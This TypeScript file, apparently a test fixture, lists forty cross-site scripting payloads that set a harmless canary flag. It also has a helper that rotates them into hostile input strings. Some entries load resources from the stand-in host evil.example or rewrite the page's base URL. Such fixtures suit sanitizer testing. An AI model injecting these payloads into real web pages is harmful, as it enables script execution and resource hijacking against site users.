/** Forty ways to be executed instead of read; each would leave a mark on the window. */
export const scriptPayloads: readonly string[] = [
  '<img src=x onerror=window.hit=1>',
  '<script>window.hit=1</script>',
  '"><svg onload=window.hit=1>',
  "'-(window.hit=1)-'",
  '{{constructor.constructor("window.hit=1")()}}',
  '<a href="javascript:window.hit=1">领奖</a>',
  '<iframe srcdoc="<script>parent.hit=1</script>">',
  '</textarea><img src=x onerror=window.hit=1>',
  '<style>@import url(//evil.example)</style>',
  '<b onmouseover=window.hit=1>👩🏽‍🔬🐙 مرحبا</b>',
  'javascript:window.hit=1',
  'JaVaScRiPt:window.hit=1//',
  'data:text/html,<script>opener.hit=1</script>',
  '<svg><script>window.hit=1</script></svg>',
  '<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:window.hit=1"><text y=20>点我</text></a></svg>',
  '<math><mi xlink:href="javascript:window.hit=1">x</mi></math>',
  '<details open ontoggle=window.hit=1>',
  '<input autofocus onfocus=window.hit=1>',
  '<select autofocus onfocus=window.hit=1></select>',
  '<body onload=window.hit=1>',
  '<video><source onerror=window.hit=1></video>',
  '<audio src=x onerror=window.hit=1>',
  '<object data="javascript:window.hit=1"></object>',
  '<embed src="javascript:window.hit=1">',
  '<form action="javascript:window.hit=1"><button>领取</button></form>',
  '<button formaction="javascript:window.hit=1" form=x>领取</button>',
  '<meta http-equiv=refresh content="0;url=javascript:window.hit=1">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/a.css">',
  '<marquee onstart=window.hit=1>便宜</marquee>',
  '" onmouseover="window.hit=1" x="',
  "' onfocus='window.hit=1' autofocus x='",
  '`-window.hit=1-`',
  '${window.hit=1}',
  '\\"-(window.hit=1)}//',
  '</script><script>window.hit=1</script>',
  '--><img src=x onerror=window.hit=1>',
  ']]><img src=x onerror=window.hit=1>',
  '</title><template><img src=x onerror=window.hit=1></template>',
];

/**
 * The text of one place among many: so many of them, the next place the next ones, and each time around
 * another one at the beginning, where an address would count.
 */
export function hostileText(place: number, count: number, payloads = scriptPayloads): string {
  const first = place * count + Math.floor((place * count) / payloads.length);
  return Array.from({ length: count }, (_, n) => payloads[(first + n) % payloads.length]).join(' ');
}
